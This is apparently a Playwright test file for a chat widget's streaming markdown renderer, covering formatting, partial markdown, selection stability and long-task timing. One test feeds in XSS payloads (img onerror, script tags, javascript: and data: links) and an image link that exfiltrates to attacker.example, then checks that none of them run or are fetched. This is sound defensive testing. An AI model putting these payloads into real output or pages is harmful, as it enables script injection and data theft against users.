"""Markdown is drawn as it comes, safely, and a long answer costs no more at its end."""

import json
from pathlib import Path

import pytest
from chat_page import ChatPage
from playwright.sync_api import Browser, expect
from stage import Stage

from chatwidget.providers import Gate

LONG_WORDS = 20_000

LONGEST_TASK = 50.0
"""Milliseconds: beyond it a browser counts a task as long (https://w3c.github.io/longtasks/)."""


def test_markdown_becomes_elements(chat: ChatPage, stage: Stage) -> None:
    stage.plays.write(
        "all kinds",
        "# A title\n\nSome **bold**, *slanted* and `code`.\n\n- one\n- two\n\n",
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint('hi')\n```\n\n",
        "A [link](https://example.org/) and ~~gone~~.",
    )
    chat.open().ask("all kinds")
    chat.expect_ready()
    answer = chat.answer
    expect(answer.locator("strong")).to_have_text("bold")
    expect(answer.locator("em")).to_have_text("slanted")
    expect(answer.locator("li")).to_have_text(["one", "two"])
    expect(answer.locator("td")).to_have_text(["1", "2"])
    expect(answer.locator("pre code")).to_have_text("print('hi')\n")
    expect(answer.locator("del")).to_have_text("gone")
    link = answer.locator("a")
    expect(link).to_have_attribute("href", "https://example.org/")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow ugc")


def test_half_written_markdown_is_drawn_as_what_it_will_become(
    chat: ChatPage, stage: Stage
) -> None:
    gate = Gate()
    stage.plays.write("half", "This is **bo", gate, "ld** now.")
    chat.open().ask("half")
    expect(chat.answer).to_have_text("This is bo")
    expect(chat.answer.locator("strong")).to_have_text("bo")
    gate.open()
    chat.expect_answer("This is bold now.")


def test_what_a_model_writes_is_never_run_or_fetched(chat: ChatPage, stage: Stage) -> None:
    asked: list[str] = []
    chat.page.on("request", lambda request: asked.append(request.url))
    stage.plays.write(
        "attack",
        "<img src=x onerror=alert(1)><script>alert(2)</script>\n\n",
        "![x](https://attacker.example/?q=secret) [a](java\tscript:alert(1)) ",
        "[b](javascript:alert(1)) [c](data:text/html,x)",
    )
    chat.open().ask("attack")
    chat.expect_ready()
    expect(chat.answer).to_contain_text("<script>alert(2)</script>")
    assert chat.answer.locator("img, script, iframe").count() == 0
    assert not any("attacker.example" in url for url in asked)
    schemes = chat.answer.locator("a").evaluate_all("all => all.map(a => a.protocol)")
    assert set(schemes) <= {"https:", "http:"}


def test_a_selection_survives_what_comes_after_it(chat: ChatPage, stage: Stage) -> None:
    gate = Gate()
    stage.plays.write("select", "A paragraph to keep.\n\nAnd another", gate, " one.")
    chat.open().ask("select")
    expect(chat.answer).to_contain_text("And another")
    first = chat.answer.locator("p").first
    first.evaluate("e => { window.kept = e; e.dataset.kept = 'yes' }")
    gate.open()
    expect(chat.answer).to_contain_text("And another one.")
    assert first.evaluate("e => e === window.kept")


@pytest.mark.needs("cdp")
@pytest.mark.timeout(120)
def test_a_very_long_answer_has_no_long_task(
    chat: ChatPage, stage: Stage, request: pytest.FixtureRequest, tmp_path: Path
) -> None:
    browser: Browser = request.getfixturevalue("browser")
    paragraph = "Some *words* of a **long** answer, with `code` and a [link](https://example.org). "
    words = len(paragraph.split())
    blocks = [f"{paragraph * 6}\n\n" for _ in range(LONG_WORDS // (words * 6) + 1)]
    pieces = [block[at : at + 24] for block in blocks for at in range(0, len(block), 24)]
    stage.plays.write("very long", *pieces, "THE END")
    chat.open()
    browser.start_tracing(page=chat.page, path=tmp_path / "trace.json", categories=["toplevel"])
    chat.ask("very long")
    # Only the last block is looked at: reading all of it would be a long task of the test's own.
    chat.page.wait_for_function(
        """() => document.querySelector('chat-widget').shadowRoot
          .querySelector('[part~=assistant-message] .text')
          ?.lastElementChild?.textContent.endsWith('THE END')""",
        timeout=60_000,
    )
    browser.stop_tracing()
    assert len((chat.answer.text_content() or "").split()) > LONG_WORDS * 0.9
    assert longest_task(tmp_path / "trace.json") <= LONGEST_TASK


def longest_task(trace: Path) -> float:
    """Return the most milliseconds that one task kept the page's main thread computing.

    Its own time, not the wall's: what else the machine does is not the widget's doing.
    """
    events = json.loads(trace.read_text())["traceEvents"]
    main = {
        (event["pid"], event["tid"])
        for event in events
        if event["name"] == "thread_name" and event["args"]["name"] == "CrRendererMain"
    }
    tasks = [
        event["tdur"] / 1000
        for event in events
        if event["name"].endswith("RunTask")
        and "tdur" in event
        and (event["pid"], event["tid"]) in main
    ]
    assert tasks, "the trace holds no tasks"
    return float(max(tasks))
